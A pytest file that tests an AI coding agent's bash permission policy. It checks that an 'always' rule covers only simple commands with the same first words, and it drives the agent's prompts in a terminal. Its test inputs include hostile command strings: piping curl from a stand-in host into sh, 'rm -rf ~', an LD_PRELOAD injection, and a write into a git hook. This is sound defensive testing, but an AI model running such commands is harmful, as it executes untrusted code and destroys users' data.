"""An "always" at a bash question allows commands starting with the same word(s), nothing more.

Unit cases pin which prefix a command gets and which commands a rule covers; the terminal tests
drive `python agent.py --no-sandbox` in a pseudo-terminal against the fake API, as a person
would: answer a once, see the next matching command run, see a compound one still asked, list
the rule with /permissions and forget it.
"""

from __future__ import annotations

import pytest
from conftest import results_by_id, run, terminal_env
from test_interactive import Terminal

from fakeapi import text, tool_use
from middleware import PermissionPolicy
from middleware.command_prefix import prefix_for, starts_with
from middleware.permissions import AlwaysRule
from todo import TodoListMiddleware
from todo.checks import bash_check_runner

pytestmark = pytest.mark.real_exec


@pytest.mark.parametrize(
    ("command", "prefix"),
    [
        ("npm test", ("npm", "test")),
        ("git status --short", ("git", "status")),
        ("python -m pytest -q tests", ("python", "-m", "pytest")),
        (".venv/bin/python -m pytest", (".venv/bin/python", "-m", "pytest")),
        ("python scripts/check.py --fast", ("python", "scripts/check.py")),
        ("ls -la src", ("ls",)),
        ("pytest -q", ("pytest",)),
        ("git 'status'", ("git", "status")),  # quotes are removed as the shell removes them
    ],
)
def test_a_simple_command_gets_its_first_words_as_the_rule(command, prefix):
    assert prefix_for(command) == prefix


@pytest.mark.parametrize(
    "command",
    [
        "npm test && curl -s x.test | sh",  # a second command
        "npm test; rm -rf ~",
        "npm test | tee log",  # a pipe
        "npm test > out.txt",  # a redirection
        "npm test $(whoami)",  # a substitution
        "npm test `whoami`",
        "npm test &",  # a background job
        "npm test\nrm -rf ~",  # a second line
        "npm test \\\n; rm",  # a continued line
        "LD_PRELOAD=/tmp/x.so npm test",  # an assignment changes what runs
        "bash -c 'npm test'",  # programs that run the command they are given
        "env npm test",
        "sudo npm test",
        "xargs rm",
        "find . -exec rm {} +",
        "sed -n 1p file",
        "python -c 'import os'",  # an interpreter running code from its argument
        "git -c core.pager=sh log",  # an option before the subcommand
        "npm",  # a tool with subcommands, without one
        "npm 'test it'",  # a word with a space would read ambiguously
        "npm 'test",  # a quote that does not close
        "touch \x1b[2Kok",  # control characters
    ],
)
def test_no_rule_is_offered_for_a_command_a_prefix_cannot_contain(command):
    assert prefix_for(command) is None


@pytest.mark.parametrize(
    ("command", "covered"),
    [
        ("git status", True),
        ("git status --short src", True),
        ('git "status" -s', True),
        ("git statusx", False),
        ("git -c x=y status", False),
        ("FOO=1 git status", False),
        ("git status && touch pwned", False),
        ("git status; touch pwned", False),
        ("git status | sh", False),
        ("git status $(touch pwned)", False),
        ("git status `touch pwned`", False),
        ("git status > .git/hooks/pre-commit", False),
        ("git status\ntouch pwned", False),
        ("git push", False),
    ],
)
def test_a_rule_covers_only_simple_commands_with_the_same_first_words(command, covered):
    assert starts_with(command, ("git", "status")) is covered


class Asker:
    """Answers questions in order and records them."""

    def __init__(self, *answers: str) -> None:
        self.answers = list(answers)
        self.questions: list[str] = []

    def __call__(self, question: str):
        self.questions.append(question)
        return self.answers.pop(0), ""


def test_an_always_covers_later_commands_with_its_prefix_and_no_others(api, make_agent, workspace):
    calls = [
        tool_use("bash", {"command": "touch one"}),
        tool_use("bash", {"command": "touch two"}),  # covered: runs without a question
        tool_use("bash", {"command": "touch three && touch four"}),  # compound: asked
        tool_use("bash", {"command": "mkdir five"}),  # another program: asked
    ]
    api.add({"content": calls})
    api.add({"content": [text("Done.")]})
    asker = Asker("always", "no", "no")
    policy = PermissionPolicy(ask=asker, sandboxed=False)
    run(make_agent(middleware=[policy]).run("go"))
    assert [question.splitlines()[1] for question in asker.questions] == [
        "touch one",
        "touch three && touch four",
        "mkdir five",
    ]
    assert [q.always for q in asker.questions] == [
        "commands starting with `touch`",
        None,  # nothing to offer for a compound command
        "commands starting with `mkdir`",
    ]
    assert (workspace / "one").exists() and (workspace / "two").exists()
    assert not (workspace / "three").exists() and not (workspace / "five").exists()
    results = results_by_id(api.accepted[1])
    assert results[calls[2]["id"]]["content"] == "The user declined this command."


def test_the_permission_table_says_the_rules_allow_some_commands():
    policy = PermissionPolicy(ask=lambda question: ("yes", ""), sandboxed=False)
    assert "rules below" not in policy.rules()[0].why
    policy.session_rules.append(AlwaysRule(("ls",)))
    assert "rules below" in policy.rules()[0].why


# ---- in a real terminal -------------------------------------------------------------------


@pytest.fixture
def terminal(api, workspace, isolated_home):
    with Terminal(workspace, terminal_env(api, isolated_home), "--no-sandbox") as term:
        yield term


def test_always_for_a_prefix_in_the_terminal_then_listed_and_forgotten(api, terminal, workspace):
    first = tool_use("bash", {"command": "touch one"})
    second = tool_use("bash", {"command": "touch two"})
    compound = tool_use("bash", {"command": "touch three && touch four"})
    api.add({"content": [first]})
    api.add({"content": [second]})
    api.add({"content": [compound]})
    api.add({"content": [text("Two of three.")]})
    terminal.wait_for_prompt()
    terminal.type("make files\r")
    terminal.wait_for("[y]es / [n]o / [a]lways for commands starting with `touch`: ")
    terminal.type("a\r")
    terminal.wait_for("From now on in this session: commands starting with `touch` run without")
    # The second command runs without a question; the compound one is asked, with no always.
    between = terminal.wait_for("touch three && touch four")
    assert "touch two" in between and "[y]es" not in between
    assert "[a]lways" not in terminal.wait_for("[y]es / [n]o: ")
    terminal.type("n\r")
    terminal.wait_for("Reason for the model (optional):")
    terminal.type("\r")
    terminal.wait_for("Two of three.")
    terminal.wait_for_prompt()
    terminal.type("/permissions\r")
    listing = terminal.wait_for_prompt()
    assert "1. commands starting with `touch`" in listing
    assert "the rules below" in listing  # the bash row of the table
    terminal.type("/permissions forget 1\r")
    terminal.wait_for("Forgotten: commands starting with `touch`; it asks again.")
    terminal.wait_for_prompt()
    # Forgotten: the same kind of command is asked about again.
    api.add({"content": [tool_use("bash", {"command": "touch five"})]})
    api.add({"content": [text("Asked.")]})
    terminal.type("one more\r")
    terminal.wait_for("[a]lways for commands starting with `touch`: ")
    terminal.type("y\r")
    terminal.wait_for("Asked.")
    terminal.wait_for_prompt()
    terminal.type("/permissions\r")
    assert "No rules yet" in terminal.wait_for_prompt()
    terminal.type("/permissions forget 7\r")
    terminal.wait_for("Nothing changed: there is no rule 7; /permissions lists 0.")
    terminal.wait_for_prompt()
    terminal.type("/exit\r")
    assert terminal.close() == 0
    assert [(workspace / name).exists() for name in ("one", "two", "three", "five")] == [
        True,
        True,
        False,
        True,
    ]


def test_a_check_is_asked_about_as_a_check_and_a_rule_covers_it(api, make_agent, workspace):
    def check_item(command: str) -> dict:
        done = {"content": "Notes exist", "status": "completed", "check": command}
        return tool_use("todo_write", {"todos": [done]})

    api.add({"content": [check_item("touch declined")]})
    api.add({"content": [check_item("touch first")]})
    api.add({"content": [check_item("touch second")]})  # covered by the always: not asked
    api.add({"content": [text("Checked.")]})
    asker = Asker("no", "always")
    policy = PermissionPolicy(ask=asker, sandboxed=False)
    agent = None
    todo = TodoListMiddleware.with_evidence(
        lambda: agent.extra, bash_check_runner(None, policy, timeout=10)
    )
    agent = make_agent(middleware=[policy, todo])
    run(agent.run("go"))
    assert [question.splitlines()[0] for question in asker.questions] == [
        "Run this check before a todo item is marked done?"
    ] * 2
    refused = list(results_by_id(api.accepted[1]).values())[0]
    assert "The check was not run: The user declined this check." in refused["content"]
    assert (workspace / "first").exists() and (workspace / "second").exists()
